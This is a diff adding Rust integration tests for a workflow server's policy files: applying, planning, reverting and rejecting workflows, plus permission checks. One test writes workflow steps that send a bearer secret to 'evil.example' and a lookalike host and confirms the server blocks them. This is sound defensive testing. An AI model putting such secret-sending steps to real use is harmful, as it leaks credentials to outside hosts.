@@ -1,0 +1,140 @@
+//! Workflows that come with a policy's files (S-11): as a whole, signed, and back again.
+
+use reqwest::Method;
+use serde_json::{Value, json};
+
+use super::{events, folder, lost_device, setup, state_of, until, workflow};
+use crate::harness::{Answer, Api, Database, Server, Setup};
+
+const RULES: &str = "mfa_enforcement:\n  all_users: true\n  exclude_service_accounts: true\n";
+
+async fn apply(api: &Api, files: Value) -> Answer {
+    let current = api.get("/v1/policies/current").await.expect(200);
+    let request = api.request(Method::PUT, "/v1/policies/current");
+    let request = request.header("if-match", format!("\"{}\"", current["id"].as_str().unwrap()));
+    Api::answer(request.json(&json!({ "files": files }))).await.unwrap()
+}
+
+async fn in_force(api: &Api) -> Vec<(String, String)> {
+    let text = |value: &Value| value.as_str().unwrap().to_owned();
+    let all = api.get("/v1/workflows").await.expect(200);
+    all["items"].as_array().unwrap().iter().map(|one| (text(&one["name"]), text(&one["digest"]))).collect()
+}
+
+fn waiting(time: &str) -> (String, String) {
+    workflow(
+        "waiting",
+        &format!(
+            "triggers: [{{manual: {{roles: [helpdesk]}}}}]\nsteps:\n  - {{id: rest, wait: {{for: {time}}}}}\n  - {{id: tell, action: event.emit, with: {{name: rested}}}}\n"
+        ),
+    )
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn s11_workflows_are_applied_with_the_policy_and_put_back_on_sqlite() {
+    applied(Database::Sqlite).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn s11_workflows_are_applied_with_the_policy_and_put_back_on_postgresql() {
+    applied(Database::Postgres).await;
+}
+
+async fn applied(database: Database) {
+    let arguments = vec!["--policy-secrets=env:HANDED_OUT".to_owned(), "--outside-allowed=hooks.example".to_owned()];
+    let environment = vec![("HANDED_OUT".to_owned(), "a-secret".to_owned())];
+    let server = Server::start(Setup { database, arguments, environment, ..Setup::default() }).await;
+    let api = server.api();
+    let (lost, first) = (lost_device().1, waiting("1h").1);
+    let files = json!({ "rules.yaml": RULES, "workflows/lost.yaml": lost, "workflows/waiting.yaml": first });
+    let plan = api.post("/v1/policies/plan", json!({ "files": files, "days": 0 })).await.expect(200);
+    let of = |plan: &Value| -> Vec<String> {
+        let differences = plan["differences"].as_array().unwrap().iter();
+        differences.map(|one| one["what"].as_str().unwrap().to_owned()).collect()
+    };
+    assert!(of(&plan).contains(&"workflows.lost_device.steps.lock".to_owned()), "{plan}");
+    assert_eq!(in_force(&api).await, [], "a plan changes nothing");
+    let one = apply(&api, files.clone()).await.expect(200);
+    let before = in_force(&api).await;
+    assert_eq!(before.iter().map(|(name, _)| name.as_str()).collect::<Vec<_>>(), ["lost_device", "waiting"]);
+    assert_eq!(events(&api, "workflow.changed").await.len(), 2);
+    let body = json!({ "requester": "Gina", "roles": ["helpdesk"] });
+    let run = api.post("/v1/workflows/waiting/runs", body.clone()).await.expect(201);
+    let id = run["id"].as_str().unwrap();
+    until("it waits", async || (state_of(&api, id).await == "waiting").then_some(())).await;
+
+    // Another version of one, and the other one gone: told step by step, in force together.
+    let second = json!({ "rules.yaml": RULES, "workflows/waiting.yaml": waiting("2h").1 });
+    let plan = api.post("/v1/policies/plan", json!({ "files": second, "days": 0 })).await.expect(200);
+    let differences = of(&plan);
+    assert!(differences.contains(&"workflows.waiting.steps.rest".to_owned()), "{differences:?}");
+    assert!(!differences.contains(&"workflows.waiting.steps.tell".to_owned()), "{differences:?}");
+    assert_eq!(plan["is_same"], false);
+    let two = apply(&api, second.clone()).await.expect(200);
+    let after = in_force(&api).await;
+    assert_eq!(after.len(), 1);
+    assert_ne!(after[0].1, before[1].1);
+    // A run goes by the version that it began with.
+    assert_eq!(api.get(&format!("/v1/runs/{id}")).await.expect(200)["digest"], before[1].1.as_str());
+    api.advance(3601).await;
+    until("it ends after one hour", async || (state_of(&api, id).await == "completed").then_some(())).await;
+    let plan = api.post("/v1/policies/plan", json!({ "files": second, "days": 0 })).await.expect(200);
+    assert_eq!((&plan["is_same"], &plan["differences"]), (&json!(true), &json!([])), "{plan}");
+
+    // Put back.
+    let request = api.request(Method::POST, &format!("/v1/policies/{}/revert", one["policy"]["id"].as_str().unwrap()));
+    let request = request.header("if-match", format!("\"{}\"", two["policy"]["id"].as_str().unwrap()));
+    Api::answer(request.json(&json!({}))).await.unwrap().expect(200);
+    assert_eq!(in_force(&api).await, before);
+    // One mistake, and nothing of it is in force; nor where a secret is not handed out.
+    let broken = json!({ "rules.yaml": RULES, "workflows/lost.yaml": lost.replace("user.lock", "user.lok") });
+    let problem = apply(&api, broken).await.expect_problem(422, "policy-mistaken");
+    assert_eq!(problem["mistakes"][0]["suggestion"], "user.lock", "{problem}");
+    let secret = workflow("calls", "triggers: [{workflow: true}]\nsteps:\n  - {id: a, action: http.call, with: {url: 'https://a.example', bearer: {secret: env:NOT_THERE}}}\n").1;
+    let secret = json!({ "rules.yaml": RULES, "workflows/calls.yaml": secret });
+    let problem = apply(&api, secret).await.expect_problem(422, "policy-mistaken");
+    assert!(problem["detail"].as_str().unwrap().contains("policy.secrets"), "{problem}");
+    assert_eq!(in_force(&api).await, before);
+    sends_secrets(&api).await;
+
+    // What it takes: whoever may apply policies alone may not see or change them.
+    let body = json!({ "name": "pipeline", "scopes": ["policies:read", "policies:write", "configuration:read", "configuration:write"] });
+    let key = api.post("/v1/applications", body).await.expect(201)["api_key"]["key"].as_str().unwrap().to_owned();
+    let pipeline = api.with_key(&key);
+    apply(&pipeline, second).await.expect_problem(403, "forbidden");
+    // Without any, those that files said are gone.
+    apply(&api, json!({ "rules.yaml": RULES })).await.expect(200);
+    assert_eq!(in_force(&api).await, []);
+    assert_eq!(events(&api, "workflow.withdrawn").await.len(), 3);
+}
+
+/// T-18, T-23: a secret that is handed out goes nowhere that the operator did not name, whoever applies files.
+async fn sends_secrets(api: &Api) {
+    let calling = |url: &str| {
+        let steps = format!(
+            "steps:\n  - {{id: a, action: http.call, with: {{url: '{url}', bearer: {{secret: env:HANDED_OUT}}}}}}\n"
+        );
+        let text = workflow(
+            "calls",
+            &format!("triggers: [{{workflow: true}}]\ninputs: {{host: {{type: text, required: true}}}}\n{steps}"),
+        )
+        .1;
+        json!({ "files": { "rules.yaml": RULES, "workflows/calls.yaml": text }, "days": 0 })
+    };
+    for url in ["https://evil.example/", "https://hooks.example.evil.example/", "${inputs.host}"] {
+        let problem = api.post("/v1/policies/plan", calling(url)).await.expect_problem(422, "policy-mistaken");
+        assert!(problem["detail"].as_str().unwrap().contains("outside.allowed"), "{url}: {problem}");
+    }
+    api.post("/v1/policies/plan", calling("https://hooks.example/a")).await.expect(200);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn s11_where_a_folder_says_which_workflows_there_are_none_are_applied() {
+    let folder = folder(&[lost_device()]);
+    let server = Server::start(setup(Database::Sqlite, &folder)).await;
+    let api = server.api();
+    let files = json!({ "rules.yaml": RULES, "workflows/waiting.yaml": waiting("1h").1 });
+    apply(&api, files).await.expect_problem(409, "conflict");
+    apply(&api, json!({ "rules.yaml": RULES })).await.expect(200);
+    assert_eq!(in_force(&api).await.len(), 1, "those of the folder stay");
+}
